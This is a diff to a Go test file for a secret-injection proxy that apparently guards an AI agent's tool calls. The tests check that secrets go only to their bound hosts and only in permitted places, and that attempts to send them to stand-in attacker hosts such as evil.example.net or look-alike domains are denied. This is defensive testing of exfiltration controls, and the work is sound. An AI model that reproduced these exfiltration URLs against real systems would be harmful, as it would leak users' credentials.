@@ -32,6 +32,10 @@ var taskSecretTests = []struct {
 		`{"url":"https://api.github.com/user?t=ghp-value-123"}`, 0, ""},
 	{"fetch wildcard host", "fetch_url", `{"url":"https://x.example.com/?t={{secret:WILD}}"}`, false,
 		`{"url":"https://x.example.com/?t=wild-value-123"}`, 0, ""},
+	// Red team (session 36): fetch_url puts a value into the URL, which a
+	// secret must opt into; by default it goes into headers only.
+	{"fetch headers-only secret", "fetch_url", `{"url":"https://api.github.com/user?t={{secret:HDR}}"}`, false, "", bulwark.PermissionDenied,
+		"headers only, and fetch_url has none; an operator can allow URLs with: bulwark secrets set HDR --hosts api.github.com,*.github.com --inject headers,url"},
 	{"fetch wildcard apex", "fetch_url", `{"url":"https://example.com/?t={{secret:WILD}}"}`, false, "", bulwark.PermissionDenied, "not to example.com"},
 	{"fetch other host", "fetch_url", `{"url":"https://evil.example.net/?t={{secret:GH}}"}`, false, "", bulwark.PermissionDenied, "only to api.github.com"},
 	{"fetch look-alike host", "fetch_url", `{"url":"https://api.github.com.evil.net/?t={{secret:GH}}"}`, false, "", bulwark.PermissionDenied, "only to api.github.com"},
@@ -48,8 +52,9 @@ var taskSecretTests = []struct {
 
 func TestTaskSecretArgs(t *testing.T) {
 	all := []bulwark.Secret{
-		{Name: "GH", Value: "ghp-value-123", Hosts: []string{"api.github.com"}},
-		{Name: "WILD", Value: "wild-value-123", Hosts: []string{"*.example.com"}},
+		{Name: "GH", Value: "ghp-value-123", Hosts: []string{"api.github.com"}, Inject: bulwark.SecretInject{URL: true}},
+		{Name: "WILD", Value: "wild-value-123", Hosts: []string{"*.example.com"}, Inject: bulwark.SecretInject{URL: true, Body: true}},
+		{Name: "HDR", Value: "hdr-value-123", Hosts: []string{"api.github.com", "*.github.com"}},
 		{Name: "LOOSE", Value: "loose-value-123"},
 		{Name: "SLASH", Value: "evil.example.net/x@"},
 	}
@@ -93,5 +98,29 @@ func TestTaskSecretIntercept(t *testing.T) {
 	ts.inSandbox = false
 	if !strings.Contains(ts.instructions(), "bound to no host (LOOSE) cannot be used") {
 		t.Errorf("instructions = %q, want LOOSE named as unusable in code", ts.instructions())
+	}
+}
+
+// The proxy gets each secret's places as stored: headers only unless the
+// secret opted into the URL or the body, and the model is told which.
+func TestTaskSecretInject(t *testing.T) {
+	ts, _ := newTaskSecrets([]bulwark.Secret{
+		{Name: "GH", Value: "ghp-value-123", Hosts: []string{"api.github.com"}},
+		{Name: "UP", Value: "up-value-1234", Hosts: []string{"upload.example.com"}, Inject: bulwark.SecretInject{Body: true}},
+	}, false)
+	ic, err := ts.intercept([]string{"run_shell"})
+	if err != nil || ic == nil || len(ic.Secrets) != 2 {
+		t.Fatalf("intercept = %+v, %v", ic, err)
+	}
+	for _, s := range ic.Secrets {
+		if want := s.Name == "UP"; s.InBody != want || s.InURL {
+			t.Errorf("intercept secret %s: InURL %v, InBody %v; want InBody %v alone", s.Name, s.InURL, s.InBody, want)
+		}
+	}
+	got := ts.instructions()
+	for _, want := range []string{"headers only", "GH: api.github.com;", "UP: upload.example.com (into headers, body)"} {
+		if !strings.Contains(got, want) {
+			t.Errorf("instructions = %q, want %q in them", got, want)
+		}
 	}
 }
